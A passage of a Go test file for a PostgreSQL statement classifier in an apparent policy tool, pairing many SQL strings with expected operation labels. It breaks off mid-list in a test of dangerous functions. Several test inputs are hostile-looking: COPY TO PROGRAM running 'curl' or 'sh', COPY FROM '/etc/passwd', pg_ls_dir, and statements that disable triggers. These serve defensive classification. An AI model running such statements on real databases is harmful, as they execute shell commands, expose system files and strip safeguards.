package postgres

import (
	"context"
	"errors"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"

	pg "github.com/pganalyze/pg_query_go/v6"

	"github.com/corral-dev/corral/policy"
)

// knownBug marks a check that fails today because of a reported bug. The
// test is skipped with what was observed, so the suite stays usable while
// the fix is under way; CORRAL_KNOWN_BUGS=fail turns the skips into
// failures. Once a bug is fixed the check passes and the marker can go.
func knownBug(t *testing.T, bug, format string, args ...any) {
	t.Helper()
	msg := fmt.Sprintf(format, args...)
	if os.Getenv("CORRAL_KNOWN_BUGS") == "fail" {
		t.Fatalf("known bug (%s): %s", bug, msg)
	}
	t.Skipf("known bug (%s): %s", bug, msg)
}

func classifyOne(t *testing.T, sql string) Statement {
	t.Helper()
	stmts, err := Classify(sql)
	if err != nil {
		t.Fatalf("Classify(%q): %v", sql, err)
	}
	if len(stmts) != 1 {
		t.Fatalf("Classify(%q): %d statements, want 1", sql, len(stmts))
	}
	return stmts[0]
}

func has(ops []string, op string) bool { return slices.Contains(ops, op) }

type classifyCase struct {
	sql      string
	ops      []string
	command  string
	tables   []string
	where    bool
	copyOut  bool
	literal  bool // literalSensitive
	prepares string
	executes string
	dealloc  string
	deallAll bool
}

var classifyCases = []classifyCase{
	// SELECT, and SELECT INTO, which creates a table.
	{sql: "SELECT 1", ops: []string{"select"}, command: "SELECT"},
	{sql: "SELECT a, b FROM t WHERE a = 1", ops: []string{"select"}, command: "SELECT", tables: []string{"t"}},
	{sql: "SELECT * FROM public.t JOIN u ON t.id = u.id", ops: []string{"select"}, command: "SELECT", tables: []string{"public.t", "u"}},
	{sql: "SELECT * INTO newt FROM t", ops: []string{"ddl", "select"}, command: "SELECT", tables: []string{"newt", "t"}},
	{sql: "SELECT a INTO TEMP x FROM t", ops: []string{"ddl", "select"}, command: "SELECT", tables: []string{"t", "x"}},
	{sql: "VALUES (1), (2)", ops: []string{"select"}, command: "SELECT"},
	{sql: "TABLE t", ops: []string{"select"}, command: "SELECT", tables: []string{"t"}},
	{sql: "SELECT 1 UNION SELECT 2", ops: []string{"select"}, command: "SELECT"},
	{sql: "SELECT * FROM t FOR UPDATE", ops: []string{"lock", "select"}, command: "SELECT", tables: []string{"t"}},
	{sql: "SELECT * FROM t WHERE id IN (SELECT id FROM u FOR SHARE)", ops: []string{"lock", "select"}, command: "SELECT", tables: []string{"t", "u"}},

	// INSERT, UPDATE, DELETE, MERGE.
	{sql: "INSERT INTO t DEFAULT VALUES", ops: []string{"insert"}, command: "INSERT", tables: []string{"t"}},
	{sql: "INSERT INTO t SELECT * FROM u", ops: []string{"insert", "select"}, command: "INSERT", tables: []string{"t", "u"}},
	{sql: "UPDATE t SET a = 1", ops: []string{"update"}, command: "UPDATE", tables: []string{"t"}},
	{sql: "UPDATE t SET a = 1 WHERE id = 2", ops: []string{"update"}, command: "UPDATE", tables: []string{"t"}, where: true},
	{sql: "UPDATE t SET a = u.b FROM u WHERE t.id = u.id", ops: []string{"update"}, command: "UPDATE", tables: []string{"t", "u"}, where: true},
	{sql: "DELETE FROM t", ops: []string{"delete"}, command: "DELETE", tables: []string{"t"}},
	{sql: "DELETE FROM s.t WHERE id = 1", ops: []string{"delete"}, command: "DELETE", tables: []string{"s.t"}, where: true},
	// has_where speaks for every UPDATE and DELETE of the statement.
	{sql: "WITH d AS (DELETE FROM u RETURNING 1) DELETE FROM t WHERE id = -1", ops: []string{"delete"}, command: "DELETE", tables: []string{"t", "u"}},
	{sql: "WITH d AS (DELETE FROM u WHERE id = 3 RETURNING 1) DELETE FROM t WHERE id = -1", ops: []string{"delete"}, command: "DELETE", tables: []string{"t", "u"}, where: true},
	{sql: "DELETE FROM t WHERE id IN (SELECT id FROM u)", ops: []string{"delete", "select"}, command: "DELETE", tables: []string{"t", "u"}, where: true},
	{sql: "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", ops: []string{"delete", "merge"}, command: "MERGE", tables: []string{"s", "t"}},
	{sql: "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.x THEN UPDATE SET v = s.v WHEN MATCHED THEN DO NOTHING WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
		ops: []string{"insert", "merge", "update"}, command: "MERGE", tables: []string{"s", "t"}},
	{sql: "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = excluded.v", ops: []string{"insert", "update"}, command: "INSERT", tables: []string{"t"}},
	{sql: "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", ops: []string{"insert"}, command: "INSERT", tables: []string{"t"}},

	// COPY: to and from the client, server files and programs.
	{sql: "COPY t TO STDOUT", ops: []string{"copy"}, command: "COPY", tables: []string{"t"}, copyOut: true, literal: true},
	{sql: "COPY t (a, b) TO STDOUT WITH (FORMAT csv)", ops: []string{"copy"}, command: "COPY", tables: []string{"t"}, copyOut: true, literal: true},
	{sql: "COPY t FROM STDIN", ops: []string{"copy", "insert"}, command: "COPY", tables: []string{"t"}, literal: true},
	{sql: "COPY t TO '/tmp/x'", ops: []string{"copy", "copy program"}, command: "COPY", tables: []string{"t"}, literal: true},
	{sql: "COPY t FROM '/etc/passwd'", ops: []string{"copy", "copy program", "insert"}, command: "COPY", tables: []string{"t"}, literal: true},
	{sql: "COPY t TO PROGRAM 'curl x'", ops: []string{"copy", "copy program"}, command: "COPY", tables: []string{"t"}, literal: true},
	{sql: "COPY t FROM PROGRAM 'id'", ops: []string{"copy", "copy program", "insert"}, command: "COPY", tables: []string{"t"}, literal: true},
	{sql: "COPY (SELECT * FROM t) TO STDOUT", ops: []string{"copy", "select"}, command: "COPY", tables: []string{"t"}, copyOut: true, literal: true},
	{sql: "COPY (DELETE FROM t RETURNING *) TO STDOUT", ops: []string{"copy", "delete"}, command: "COPY", tables: []string{"t"}, copyOut: true, literal: true},
	{sql: "COPY (SELECT 1) TO PROGRAM 'sh'", ops: []string{"copy", "copy program", "select"}, command: "COPY", literal: true},

	// DROP of every kind; DROP ROLE also changes who may do what.
	{sql: "DROP TABLE t", ops: []string{"drop"}, command: "DROP"},
	{sql: "DROP INDEX i", ops: []string{"drop"}, command: "DROP"},
	{sql: "DROP SCHEMA s CASCADE", ops: []string{"drop"}, command: "DROP"},
	{sql: "DROP FUNCTION f()", ops: []string{"drop"}, command: "DROP"},
	{sql: "DROP DATABASE d", ops: []string{"drop"}, command: "DROPDB"},
	{sql: "DROP TABLESPACE ts", ops: []string{"drop"}, command: "DROP TABLE SPACE"},
	{sql: "DROP OWNED BY bob", ops: []string{"drop"}, command: "DROP OWNED"},
	{sql: "DROP SUBSCRIPTION sub", ops: []string{"drop"}, command: "DROP SUBSCRIPTION"},
	{sql: "DROP USER MAPPING FOR bob SERVER s", ops: []string{"drop"}, command: "DROP USER MAPPING"},
	{sql: "DROP ROLE bob", ops: []string{"drop", "grant"}, command: "DROP ROLE"},
	{sql: "DROP USER bob", ops: []string{"drop", "grant"}, command: "DROP ROLE"},
	{sql: "TRUNCATE t", ops: []string{"truncate"}, command: "TRUNCATE", tables: []string{"t"}},
	{sql: "TRUNCATE a, b.c CASCADE", ops: []string{"truncate"}, command: "TRUNCATE", tables: []string{"a", "b.c"}},

	// Privileges, roles, policies, owners.
	{sql: "GRANT SELECT ON t TO bob", ops: []string{"grant"}, command: "GRANT", tables: []string{"t"}},
	{sql: "REVOKE SELECT ON t FROM bob", ops: []string{"grant"}, command: "GRANT", tables: []string{"t"}},
	{sql: "GRANT admin TO bob", ops: []string{"grant"}, command: "GRANT ROLE"},
	{sql: "REVOKE admin FROM bob", ops: []string{"grant"}, command: "GRANT ROLE"},
	{sql: "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", ops: []string{"grant"}, command: "ALTER DEFAULT PRIVILEGES"},
	{sql: "CREATE ROLE bob", ops: []string{"grant"}, command: "CREATE ROLE"},
	{sql: "CREATE USER bob PASSWORD 'x'", ops: []string{"grant"}, command: "CREATE ROLE"},
	{sql: "ALTER ROLE bob SUPERUSER", ops: []string{"grant"}, command: "ALTER ROLE"},
	{sql: "ALTER GROUP g ADD USER bob", ops: []string{"grant"}, command: "ALTER ROLE"},
	{sql: "ALTER ROLE bob SET search_path = x", ops: []string{"grant", "set"}, command: "ALTER ROLE SET"},
	{sql: "ALTER ROLE bob SET role = admin", ops: []string{"grant", "set role"}, command: "ALTER ROLE SET"},
	{sql: "ALTER ROLE bob IN DATABASE d RESET ALL", ops: []string{"grant", "set role"}, command: "ALTER ROLE SET"},
	{sql: "REASSIGN OWNED BY bob TO alice", ops: []string{"grant"}, command: "REASSIGN OWNED"},
	{sql: "ALTER SCHEMA s OWNER TO bob", ops: []string{"grant"}, command: "ALTER OWNER"},
	{sql: "ALTER DATABASE d OWNER TO bob", ops: []string{"grant"}, command: "ALTER OWNER"},
	{sql: "ALTER FUNCTION f() OWNER TO bob", ops: []string{"grant"}, command: "ALTER OWNER"},
	{sql: "CREATE POLICY p ON t USING (true)", ops: []string{"grant"}, command: "CREATE POLICY", tables: []string{"t"}},
	{sql: "ALTER POLICY p ON t USING (false)", ops: []string{"grant"}, command: "ALTER POLICY", tables: []string{"t"}},

	// Transactions.
	{sql: "BEGIN", ops: []string{"transaction"}, command: "TRANSACTION"},
	{sql: "START TRANSACTION ISOLATION LEVEL SERIALIZABLE", ops: []string{"transaction"}, command: "TRANSACTION"},
	{sql: "COMMIT", ops: []string{"transaction"}, command: "TRANSACTION"},
	{sql: "ROLLBACK", ops: []string{"transaction"}, command: "TRANSACTION"},
	{sql: "SAVEPOINT a", ops: []string{"transaction"}, command: "TRANSACTION"},
	{sql: "ROLLBACK TO SAVEPOINT a", ops: []string{"transaction"}, command: "TRANSACTION"},
	{sql: "PREPARE TRANSACTION 'x'", ops: []string{"transaction"}, command: "TRANSACTION"},
	{sql: "SET CONSTRAINTS ALL DEFERRED", ops: []string{"transaction"}, command: "CONSTRAINTS SET"},

	// SET and friends: anything that can change the role is "set role".
	{sql: "SET search_path = x", ops: []string{"set"}, command: "VARIABLE SET", literal: true},
	{sql: "SET LOCAL statement_timeout = 0", ops: []string{"set"}, command: "VARIABLE SET", literal: true},
	{sql: "SET TIME ZONE 'UTC'", ops: []string{"set"}, command: "VARIABLE SET", literal: true},
	{sql: "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", ops: []string{"set"}, command: "VARIABLE SET", literal: true},
	{sql: "RESET search_path", ops: []string{"set"}, command: "VARIABLE SET", literal: true},
	{sql: "RESET ALL", ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
	{sql: "SET ROLE admin", ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
	{sql: "SET SESSION ROLE admin", ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
	{sql: "SET LOCAL ROLE admin", ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
	{sql: `SET "role" TO admin`, ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
	{sql: "SET role = DEFAULT", ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
	{sql: "RESET ROLE", ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
	{sql: "SET SESSION AUTHORIZATION bob", ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
	{sql: "SET SESSION AUTHORIZATION DEFAULT", ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
	{sql: "SET session_authorization = 'bob'", ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
	{sql: "RESET SESSION AUTHORIZATION", ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
	{sql: "DISCARD ALL", ops: []string{"set role"}, command: "DISCARD"},
	{sql: "SHOW search_path", ops: []string{"show"}, command: "VARIABLE SHOW", literal: true},
	{sql: "SHOW ALL", ops: []string{"show"}, command: "VARIABLE SHOW", literal: true},
	{sql: "SELECT current_setting('search_path')", ops: []string{"select", "show"}, command: "SELECT"},
	{sql: "SELECT name, setting FROM pg_settings", ops: []string{"select", "show"}, command: "SELECT", tables: []string{"pg_settings"}},
	{sql: "SELECT * FROM pg_catalog.pg_show_all_settings()", ops: []string{"select", "show"}, command: "SELECT"},
	{sql: "SELECT setconfig FROM pg_db_role_setting", ops: []string{"select", "show"}, command: "SELECT", tables: []string{"pg_db_role_setting"}},

	// EXPLAIN carries the operations of what it explains (ANALYZE runs it).
	{sql: "EXPLAIN SELECT 1", ops: []string{"explain", "select"}, command: "EXPLAIN"},
	{sql: "EXPLAIN (SETTINGS) SELECT 1", ops: []string{"explain", "select", "show"}, command: "EXPLAIN"},
	{sql: "EXPLAIN (SETTINGS off, COSTS) SELECT 1", ops: []string{"explain", "select", "show"}, command: "EXPLAIN"},
	{sql: "EXPLAIN ANALYZE DELETE FROM t", ops: []string{"delete", "explain"}, command: "EXPLAIN", tables: []string{"t"}},
	{sql: "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE b = 2", ops: []string{"explain", "update"}, command: "EXPLAIN", tables: []string{"t"}},
	{sql: "EXPLAIN ANALYZE INSERT INTO t SELECT * FROM u", ops: []string{"explain", "insert", "select"}, command: "EXPLAIN", tables: []string{"t", "u"}},
	{sql: "EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1", ops: []string{"ddl", "explain", "select"}, command: "EXPLAIN", tables: []string{"x"}},

	// LOCK and maintenance.
	{sql: "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", ops: []string{"lock"}, command: "LOCK", tables: []string{"t"}},
	{sql: "VACUUM t", ops: []string{"maintenance"}, command: "VACUUM", tables: []string{"t"}},
	{sql: "VACUUM FULL", ops: []string{"maintenance"}, command: "VACUUM"},
	{sql: "ANALYZE t", ops: []string{"maintenance"}, command: "VACUUM", tables: []string{"t"}},
	{sql: "REINDEX TABLE t", ops: []string{"maintenance"}, command: "REINDEX", tables: []string{"t"}},
	{sql: "CLUSTER t USING i", ops: []string{"maintenance"}, command: "CLUSTER", tables: []string{"t"}},
	{sql: "CHECKPOINT", ops: []string{"maintenance"}, command: "CHECK POINT"},
	{sql: "REFRESH MATERIALIZED VIEW mv", ops: []string{"maintenance"}, command: "REFRESH MAT VIEW", tables: []string{"mv"}},

	// LISTEN, UNLISTEN, NOTIFY.
	{sql: "LISTEN ch", ops: []string{"listen"}, command: "LISTEN"},
	{sql: "UNLISTEN *", ops: []string{"listen"}, command: "UNLISTEN"},
	{sql: "NOTIFY ch, 'x'", ops: []string{"notify"}, command: "NOTIFY"},

	// SQL-level prepared statements: the names are not part of the
	// fingerprint, so the classification is not shared.
	{sql: "PREPARE p AS SELECT * FROM t WHERE id = $1", ops: []string{"prepare", "select"}, command: "PREPARE", literal: true, tables: []string{"t"}, prepares: "p"},
	{sql: "PREPARE d (int) AS DELETE FROM t WHERE id = $1", ops: []string{"delete", "prepare"}, command: "PREPARE", literal: true, tables: []string{"t"}, prepares: "d"},
	{sql: "EXECUTE p(1)", ops: []string{"prepare"}, command: "EXECUTE", literal: true, executes: "p"},
	{sql: "EXECUTE q", ops: []string{"prepare"}, command: "EXECUTE", literal: true, executes: "q"},
	{sql: "DEALLOCATE p", ops: []string{"prepare"}, command: "DEALLOCATE", literal: true, dealloc: "p"},
	{sql: "DEALLOCATE PREPARE p", ops: []string{"prepare"}, command: "DEALLOCATE", literal: true, dealloc: "p"},
	{sql: "DEALLOCATE ALL", ops: []string{"prepare"}, command: "DEALLOCATE", literal: true, deallAll: true},

	// Cursors.
	{sql: "DECLARE c CURSOR FOR SELECT * FROM t", ops: []string{"cursor", "select"}, command: "DECLARE CURSOR", tables: []string{"t"}, literal: true},
	{sql: "FETCH 10 FROM c", ops: []string{"cursor"}, command: "FETCH", literal: true},
	{sql: "MOVE NEXT IN c", ops: []string{"cursor"}, command: "FETCH", literal: true},
	{sql: "CLOSE c", ops: []string{"cursor"}, command: "CLOSE PORTAL", literal: true},
	{sql: "CLOSE ALL", ops: []string{"cursor"}, command: "CLOSE PORTAL", literal: true},

	// Procedures, anonymous blocks, the server itself.
	{sql: "CALL proc(1)", ops: []string{"call"}, command: "CALL"},
	{sql: "DO $$BEGIN END$$", ops: []string{"do"}, command: "DO"},
	{sql: "LOAD 'plugin'", ops: []string{"ddl", "function"}, command: "LOAD"},
	{sql: "ALTER SYSTEM SET work_mem = '1GB'", ops: []string{"ddl", "function"}, command: "ALTER SYSTEM"},
	{sql: "ALTER SYSTEM RESET ALL", ops: []string{"ddl", "function"}, command: "ALTER SYSTEM"},

	// DDL of many kinds.
	{sql: "CREATE TABLE t (a int)", ops: []string{"ddl"}, command: "CREATE", tables: []string{"t"}},
	{sql: "CREATE TABLE x (LIKE t)", ops: []string{"ddl"}, command: "CREATE", tables: []string{"t", "x"}},
	{sql: "CREATE TABLE x AS SELECT * FROM t", ops: []string{"ddl", "select"}, command: "CREATE TABLE AS", tables: []string{"t", "x"}},
	{sql: "CREATE MATERIALIZED VIEW mv AS SELECT 1", ops: []string{"ddl", "select"}, command: "CREATE TABLE AS", tables: []string{"mv"}},
	{sql: "CREATE VIEW v AS SELECT * FROM t", ops: []string{"ddl", "select"}, command: "VIEW", tables: []string{"t", "v"}},
	{sql: "CREATE INDEX ON t (a)", ops: []string{"ddl"}, command: "INDEX", tables: []string{"t"}},
	{sql: "ALTER TABLE t ADD COLUMN b int", ops: []string{"ddl"}, command: "ALTER TABLE", tables: []string{"t"}},
	{sql: "ALTER TABLE t RENAME TO u", ops: []string{"ddl"}, command: "RENAME", tables: []string{"t"}},
	{sql: "ALTER TABLE t SET SCHEMA s", ops: []string{"ddl"}, command: "ALTER OBJECT SCHEMA", tables: []string{"t"}},
	{sql: "COMMENT ON TABLE t IS 'x'", ops: []string{"ddl"}, command: "COMMENT"},
	{sql: "CREATE SCHEMA s", ops: []string{"ddl"}, command: "CREATE SCHEMA"},
	{sql: "CREATE SEQUENCE sq", ops: []string{"ddl"}, command: "CREATE SEQ", tables: []string{"sq"}},
	{sql: "ALTER SEQUENCE sq RESTART", ops: []string{"ddl", "update"}, command: "ALTER SEQ", tables: []string{"sq"}},
	{sql: "ALTER SEQUENCE sq INCREMENT BY 2", ops: []string{"ddl"}, command: "ALTER SEQ", tables: []string{"sq"}},
	{sql: "ALTER TYPE st RENAME VALUE 'paid' TO 'refunded'", ops: []string{"ddl", "update"}, command: "ALTER ENUM"},
	{sql: "ALTER TYPE st ADD VALUE 'void'", ops: []string{"ddl"}, command: "ALTER ENUM"},
	{sql: "ALTER TABLE t ATTACH PARTITION f FOR VALUES FROM (1) TO (2)", ops: []string{"ddl", "insert"}, command: "ALTER TABLE", tables: []string{"f", "t"}},
	{sql: "ALTER TABLE t DETACH PARTITION p", ops: []string{"ddl", "delete"}, command: "ALTER TABLE", tables: []string{"p", "t"}},
	{sql: "ALTER TABLE t NO INHERIT p", ops: []string{"ddl", "delete"}, command: "ALTER TABLE", tables: []string{"p", "t"}},
	{sql: "ALTER TABLE t DISABLE TRIGGER frozen", ops: []string{"ddl", "drop"}, command: "ALTER TABLE", tables: []string{"t"}},
	{sql: "ALTER TABLE t ALTER COLUMN v DROP NOT NULL", ops: []string{"ddl", "drop"}, command: "ALTER TABLE", tables: []string{"t"}},
	{sql: "ALTER TABLE t ALTER COLUMN id RESTART WITH 500", ops: []string{"ddl", "update"}, command: "ALTER TABLE", tables: []string{"t"}},
	{sql: "ALTER TABLE t SET UNLOGGED", ops: []string{"ddl", "truncate"}, command: "ALTER TABLE", tables: []string{"t"}},
	{sql: "ALTER DOMAIN dom DROP NOT NULL", ops: []string{"ddl", "drop"}, command: "ALTER DOMAIN"},
	{sql: "ALTER EVENT TRIGGER et DISABLE", ops: []string{"ddl", "drop"}, command: "ALTER EVENT TRIG"},
	{sql: "ALTER EVENT TRIGGER et ENABLE", ops: []string{"ddl"}, command: "ALTER EVENT TRIG"},
	{sql: "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql", ops: []string{"ddl"}, command: "CREATE FUNCTION"},
	{sql: "CREATE FUNCTION f() RETURNS int BEGIN ATOMIC DELETE FROM t; SELECT 1; END", ops: []string{"ddl", "delete", "select"}, command: "CREATE FUNCTION", tables: []string{"t"}},
	{sql: "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS 'select 1'", ops: []string{"ddl"}, command: "CREATE FUNCTION"},
	{sql: "ALTER FUNCTION f() SECURITY DEFINER", ops: []string{"ddl"}, command: "ALTER FUNCTION"},
	{sql: "CREATE EXTENSION dblink", ops: []string{"ddl"}, command: "CREATE EXTENSION"},
	{sql: "ALTER EXTENSION e UPDATE", ops: []string{"ddl"}, command: "ALTER EXTENSION"},
	{sql: "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", ops: []string{"ddl"}, command: "CREATE TRIG", tables: []string{"t"}},
	// Replacing a trigger or rule may remove a guard.
	{sql: "CREATE OR REPLACE TRIGGER tr BEFORE UPDATE ON t FOR EACH ROW EXECUTE FUNCTION suppress_redundant_updates_trigger()", ops: []string{"ddl", "drop"}, command: "CREATE TRIG", tables: []string{"t"}},
	{sql: "CREATE OR REPLACE RULE r AS ON DELETE TO t DO INSTEAD NOTHING", ops: []string{"ddl", "drop"}, command: "RULE", tables: []string{"t"}},
	{sql: "CREATE OR REPLACE FUNCTION guard() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN RETURN NEW; END$$", ops: []string{"ddl", "drop"}, command: "CREATE FUNCTION"},
	{sql: "CREATE OR REPLACE FUNCTION guard() RETURNS pg_catalog.event_trigger LANGUAGE plpgsql AS $$BEGIN END$$", ops: []string{"ddl", "drop"}, command: "CREATE FUNCTION"},
	{sql: "CREATE FUNCTION guard() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN RETURN NEW; END$$", ops: []string{"ddl"}, command: "CREATE FUNCTION"},
	{sql: "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", ops: []string{"ddl"}, command: "CREATE FUNCTION"},
	{sql: "SET session_replication_role = replica", ops: []string{"drop", "set"}, command: "VARIABLE SET", literal: true},
	{sql: "SET LOCAL session_replication_role TO local", ops: []string{"drop", "set"}, command: "VARIABLE SET", literal: true},
	{sql: "RESET session_replication_role", ops: []string{"set"}, command: "VARIABLE SET", literal: true},
	{sql: "ALTER ROLE app SET session_replication_role = replica", ops: []string{"drop", "grant", "set"}, command: "ALTER ROLE SET"},
	{sql: "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", ops: []string{"ddl"}, command: "CREATE EVENT TRIG"},
	{sql: "CREATE TYPE e AS ENUM ('a')", ops: []string{"ddl"}, command: "CREATE ENUM"},
	{sql: "ALTER TYPE e ADD VALUE 'b'", ops: []string{"ddl"}, command: "ALTER ENUM"},
	{sql: "CREATE TYPE c AS (a int)", ops: []string{"ddl"}, command: "COMPOSITE TYPE", tables: []string{"c"}},
	{sql: "CREATE DOMAIN dm AS int", ops: []string{"ddl"}, command: "CREATE DOMAIN"},
	{sql: "CREATE AGGREGATE a (int) (sfunc = f, stype = int)", ops: []string{"ddl"}, command: "DEFINE"},
	{sql: "CREATE DATABASE d", ops: []string{"ddl"}, command: "CREATEDB"},
	{sql: "ALTER DATABASE d SET x = 1", ops: []string{"ddl", "set"}, command: "ALTER DATABASE SET"},
	{sql: "ALTER DATABASE d SET role = 'admin'", ops: []string{"ddl", "set role"}, command: "ALTER DATABASE SET"},
	{sql: "ALTER DATABASE d SET session_authorization TO admin", ops: []string{"ddl", "set role"}, command: "ALTER DATABASE SET"},
	{sql: "ALTER TABLE t DROP COLUMN payload", ops: []string{"ddl", "drop"}, command: "ALTER TABLE", tables: []string{"t"}},
	{sql: "ALTER TABLE t DROP CONSTRAINT t_pkey, ADD COLUMN x int", ops: []string{"ddl", "drop"}, command: "ALTER TABLE", tables: []string{"t"}},
	{sql: "ALTER TABLE t ALTER COLUMN keep TYPE text USING 'overwritten'", ops: []string{"ddl", "update"}, command: "ALTER TABLE", tables: []string{"t"}},
	{sql: "ALTER TYPE ty DROP ATTRIBUTE a", ops: []string{"ddl", "drop"}, command: "ALTER TABLE", tables: []string{"ty"}},
	{sql: "ALTER DOMAIN dom DROP CONSTRAINT c", ops: []string{"ddl", "drop"}, command: "ALTER DOMAIN"},
	{sql: "ALTER TABLE t ADD COLUMN x int", ops: []string{"ddl"}, command: "ALTER TABLE", tables: []string{"t"}},
	{sql: "CREATE TABLESPACE ts LOCATION '/x'", ops: []string{"ddl"}, command: "CREATE TABLE SPACE"},
	{sql: "CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", ops: []string{"ddl"}, command: "RULE", tables: []string{"t"}},
	{sql: "CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM u", ops: []string{"ddl", "delete"}, command: "RULE", tables: []string{"t", "u"}},
	{sql: "CREATE PUBLICATION p FOR ALL TABLES", ops: []string{"ddl"}, command: "CREATE PUBLICATION"},
	{sql: "CREATE SUBSCRIPTION sub CONNECTION 'x' PUBLICATION p", ops: []string{"ddl"}, command: "CREATE SUBSCRIPTION"},
	{sql: "CREATE SERVER s FOREIGN DATA WRAPPER w", ops: []string{"ddl"}, command: "CREATE FOREIGN SERVER"},
	{sql: "CREATE USER MAPPING FOR bob SERVER s", ops: []string{"ddl"}, command: "CREATE USER MAPPING"},
	{sql: "IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO l", ops: []string{"ddl"}, command: "IMPORT FOREIGN SCHEMA"},
	{sql: "CREATE LANGUAGE plperl", ops: []string{"ddl"}, command: "CREATE EXTENSION"},
	{sql: "SECURITY LABEL ON TABLE t IS 'x'", ops: []string{"ddl"}, command: "SEC LABEL"},
	{sql: "CREATE STATISTICS s ON a, b FROM t", ops: []string{"ddl"}, command: "CREATE STATS", tables: []string{"t"}},
	{sql: "CREATE CAST (int AS text) WITH INOUT", ops: []string{"ddl"}, command: "CREATE CAST"},

	// Data-modifying CTEs and subqueries add their operations.
	{sql: "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", ops: []string{"delete", "select"}, command: "SELECT", tables: []string{"d", "t"}},
	{sql: "WITH u AS (UPDATE t SET a = 1 RETURNING *), i AS (INSERT INTO l SELECT * FROM u RETURNING *) SELECT * FROM i",
		ops: []string{"insert", "select", "update"}, command: "SELECT", tables: []string{"i", "l", "t", "u"}},
	{sql: "WITH a AS (WITH b AS (DELETE FROM t RETURNING id) SELECT id FROM b) SELECT * FROM a",
		ops: []string{"delete", "select"}, command: "SELECT", tables: []string{"a", "b", "t"}},
	{sql: "WITH m AS (INSERT INTO l VALUES (1) RETURNING id) UPDATE t SET a = 1 WHERE id IN (SELECT id FROM m)",
		ops: []string{"insert", "select", "update"}, command: "UPDATE", tables: []string{"l", "m", "t"}, where: true},
	{sql: "SELECT * FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.a = t.a)", ops: []string{"select"}, command: "SELECT", tables: []string{"t", "u"}},

	// Comments and case do not matter.
	{sql: "/* c */ SeLeCt 1 -- x", ops: []string{"select"}, command: "SELECT"},
	{sql: "-- leading\ndelete FROM T where ID = 1", ops: []string{"delete"}, command: "DELETE", tables: []string{"t"}, where: true},
	{sql: "dRoP tAbLe T", ops: []string{"drop"}, command: "DROP"},
}

func TestClassifyTable(t *testing.T) {
	if len(classifyCases) < 60 {
		t.Fatalf("only %d cases", len(classifyCases))
	}
	for _, c := range classifyCases {
		t.Run(c.sql, func(t *testing.T) {
			s := classifyOne(t, c.sql)
			if !slices.Equal(s.Ops, c.ops) {
				t.Errorf("Ops = %q, want %q", s.Ops, c.ops)
			}
			if s.Command != c.command {
				t.Errorf("Command = %q, want %q", s.Command, c.command)
			}
			if !slices.Equal(s.Tables, c.tables) {
				t.Errorf("Tables = %q, want %q", s.Tables, c.tables)
			}
			if s.HasWhere != c.where {
				t.Errorf("HasWhere = %v, want %v", s.HasWhere, c.where)
			}
			if s.CopyOut != c.copyOut {
				t.Errorf("CopyOut = %v, want %v", s.CopyOut, c.copyOut)
			}
			if s.literalSensitive != c.literal {
				t.Errorf("literalSensitive = %v, want %v", s.literalSensitive, c.literal)
			}
			if s.Prepares != c.prepares || s.Executes != c.executes || s.Deallocates != c.dealloc || s.DeallocateAll != c.deallAll {
				t.Errorf("Prepares, Executes, Deallocates, DeallocateAll = %q, %q, %q, %v; want %q, %q, %q, %v",
					s.Prepares, s.Executes, s.Deallocates, s.DeallocateAll, c.prepares, c.executes, c.dealloc, c.deallAll)
			}
			if s.Text != strings.TrimSpace(c.sql) {
				t.Errorf("Text = %q", s.Text)
			}
			if s.Fingerprint == "" {
				t.Error("no fingerprint")
			}
			checkOpsWellFormed(t, s.Ops)
		})
	}
}

// checkOpsWellFormed: sorted, distinct, every one a word of the SQL
// vocabulary.
func checkOpsWellFormed(t *testing.T, ops []string) {
	t.Helper()
	if !slices.IsSorted(ops) {
		t.Errorf("Ops %q not sorted", ops)
	}
	if len(slices.Compact(slices.Clone(ops))) != len(ops) {
		t.Errorf("Ops %q not distinct", ops)
	}
	for _, op := range ops {
		if !slices.Contains(policy.Vocabulary[policy.KindSQL], op) {
			t.Errorf("Op %q is not in the sql vocabulary", op)
		}
	}
}

func TestClassifyDangerousFunctions(t *testing.T) {
	for _, f := range dangerousFunctions {
		for _, sql := range []string{
			"SELECT " + f + "('x')",
			"SELECT pg_catalog." + f + "('x')",
			"SELECT " + strings.ToUpper(f) + "('x')",
		} {
			s := classifyOne(t, sql)
			if !has(s.Ops, "function") || !has(s.Ops, "select") {
				t.Errorf("%s: Ops = %q, want function and select", sql, s.Ops)
			}
			if len(s.Functions) != 1 || !strings.HasSuffix(s.Functions[0], f) {
				t.Errorf("%s: Functions = %q", sql, s.Functions)
			}
		}
	}
	// Wherever the call sits, it is seen.
	for _, sql := range []string{
		"SELECT * FROM pg_ls_dir('.')",
